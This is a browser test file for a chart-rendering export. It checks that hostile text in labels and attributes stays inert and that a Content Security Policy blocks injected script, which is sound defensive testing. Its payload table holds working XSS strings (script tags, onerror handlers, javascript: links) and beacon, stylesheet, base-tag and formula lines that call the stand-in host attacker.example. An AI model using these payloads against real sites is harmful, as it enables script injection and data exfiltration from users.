"""Hostile texts in every attribute stay texts; a naive page shows that these tests would notice if they did not."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import chart_graphs
import pytest
from selenium.webdriver import ActionChains
from selenium.webdriver.common.by import By

from finlink.export.chart import render

if TYPE_CHECKING:
    from collections.abc import Callable

    from chart_browser import Page

pytestmark = pytest.mark.browser

MARK = "document.title='EXECUTED'"
PAYLOADS = {
    "script": f"<script>{MARK}</script>",
    "close script": f"</script><script>{MARK}</script>",
    "comment then script": f"<!--<script>{MARK}//",
    "image": f"<img src=x onerror=\"{MARK}\">",
    "svg": f"<svg/onload={MARK}>",
    "attribute": f"\" autofocus onfocus=\"{MARK}\" x=\"",
    "quote": f"' onmouseover='{MARK}' ",
    "href": f"<a href=\"javascript:{MARK}\" id=data>href</a>",
    "beacon": "<img src=\"http://attacker.example/beacon?case=42\"><link rel=stylesheet href=//attacker.example/a.css>",
    "style": "</style><style>*{background:url(http://attacker.example/s)}</style>",
    "base": "<base href=http://attacker.example/><meta http-equiv=refresh content='0;url=http://attacker.example/'>",
    "template": "{{ 7*7 }}{% raw %}${alert(1)}<%= 1 %>",
    "json": "\\u003cscript>\\\",\"x\":\"",
    "prototype": "__proto__",
    "constructor": "constructor",
    "bidi": "\u202egnp.exe\u2066\u200b",
    "separators": "a\u2028b\u2029c\u0085d\x00e\r\nf",
    "long": "W" * 10_000,
    "surrogate": "\ud800\udfff\ud83d",
    "combining": "Z" + "\u0335\u0348" * 200,
    "formula": "=HYPERLINK(\"http://attacker.example\")",
}  # fmt: skip
ATTRIBUTES = ("shape", "image", "x", "hidden", "physics", "group", "__proto__")


def _everything_seen(page: Page) -> None:
    """Show every card, search, hover: all the ways in which a text gets on the page."""
    page.run("for (const id of drawn.keys()) finlink.open(id);")
    page.run(
        "query.value = arguments[0]; query.dispatchEvent(new Event('input')); goTo(0, finlink.open);"
        "for (const item of data.nodes) { const at = finlink.network.canvasToDOM(finlink.network.getPosition(item.id));"
        "  const move = new MouseEvent('mousemove', {clientX: at.x, clientY: at.y, bubbles: true});"
        "  document.querySelector('#chart canvas').dispatchEvent(move); }",
        "a",
    )
    page.run("document.getElementById('table').open = true")


def _signs_of_execution(page: Page, title: str) -> list[str]:
    """Return what a payload would have left behind, by running or by becoming elements."""
    signs = [] if page.run("return document.title") == title else ["the title changed"]
    strange = page.run(
        "return [...document.querySelectorAll('img, iframe, base, object, embed, form, a, script, style, link, svg')]"
        ".filter((one) => !(one.tagName === 'svg' && (one.classList.contains('swatch') || one.closest('.tools'))))"
        ".map((one) => one.tagName.toLowerCase()).sort()"
    )
    signs += [] if strange == ["link", "script", "script", "script", "style"] else [f"elements: {strange}"]
    return signs


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_hostile_text_stays_a_text(opened: Callable[..., Page], name: str) -> None:
    payload = PAYLOADS[name]
    html = render(
        chart_graphs.hostile(payload), title=payload, notes=[payload, payload], hidden=payload, handling=payload
    )
    page = opened(html).ready()
    title = page.run("return document.querySelector('h1').textContent.trim()")
    _everything_seen(page)
    assert _signs_of_execution(page, " ".join(title.split())) == []
    assert page.run("return data.nodes.length") == len(chart_graphs.hostile(payload))
    assert page.run("return ({}).kind === undefined && Object.keys(Object.prototype).length === 0")
    assert page.requests() == []
    assert page.complaints() == []


@pytest.mark.parametrize("name", ["image", "href", "prototype"])
def test_a_hostile_text_stays_a_text_under_the_mouse(opened: Callable[..., Page], name: str) -> None:
    page = opened(render(chart_graphs.hostile(PAYLOADS[name]), title="t")).ready()
    place = page.run("return finlink.network.canvasToDOM(finlink.network.getPosition('n4'))")
    canvas = page.driver.find_element(By.CSS_SELECTOR, "#chart canvas")
    across, down = (round(place[axis] - canvas.size[side] / 2) for axis, side in (("x", "width"), ("y", "height")))
    ActionChains(page.driver).move_to_element_with_offset(canvas, across, down).perform()
    page.until("return document.querySelector('.vis-tooltip')?.style.visibility === 'visible'")
    assert PAYLOADS[name] in page.run("return document.querySelector('.vis-tooltip').textContent")
    assert page.run("return document.querySelector('.vis-tooltip').querySelectorAll('*:not(br)').length") == 0
    assert _signs_of_execution(page, "t") == []
    assert page.requests() == []
    assert page.complaints() == []


def test_a_column_cannot_become_an_option_of_the_chart(opened: Callable[..., Page]) -> None:
    graph = chart_graphs.story()
    for node in graph:
        for name in ATTRIBUTES:
            graph.nodes[node][name] = "image" if name == "shape" else "http://attacker.example/i.png"
    page = opened(render(graph, title="t")).ready()
    assert set(page.run("return data.nodes.map((node) => node.shape)")) <= {
        "box", "dot", "hexagon", "square", "diamond", "triangle",
    }  # fmt: skip
    assert page.run("return data.nodes.every((node) => typeof node.x === 'number')")
    assert page.requests() == []


def test_a_text_that_looks_reversed_is_shown_in_its_order(opened: Callable[..., Page]) -> None:
    page = opened(render(chart_graphs.hostile(PAYLOADS["bidi"]), title="t")).ready()
    page.run("finlink.open('n0')")
    assert "⟨U+202E⟩gnp.exe⟨U+2066⟩⟨U+200B⟩" in page.text("#panel")


def test_the_policy_stops_what_escaping_would_miss(opened: Callable[..., Page]) -> None:
    html = render(chart_graphs.story(), title="t").replace("<main>", f"<script>{MARK}</script><main>", 1)
    page = opened(html).ready()
    assert page.run("return document.title") == "t"
    assert any("Content Security Policy" in complaint for complaint in page.complaints())


@pytest.mark.parametrize("name", ["script", "close script", "image", "svg", "beacon"])
def test_a_naive_page_is_caught(opened: Callable[..., Page], name: str) -> None:
    """The negative control: the same payload in a page that escapes nothing must leave a sign."""
    data = json.dumps({"label": PAYLOADS[name]})
    page = opened(
        "<!doctype html><html><head><meta charset=utf-8><title>naive</title></head><body><p id=out></p>"
        f"<script>const data = {data}; document.getElementById('out').innerHTML = data.label;</script>"
        f"{PAYLOADS[name]}</body></html>"
    )
    page.until("return document.readyState === 'complete'")
    page.run("return 0")
    caught = [*_signs_of_execution(page, "naive"), *page.requests()]
    assert caught
    if name != "beacon":
        page.until("return document.title === 'EXECUTED'")
    else:
        assert any("attacker.example" in sign for sign in caught)
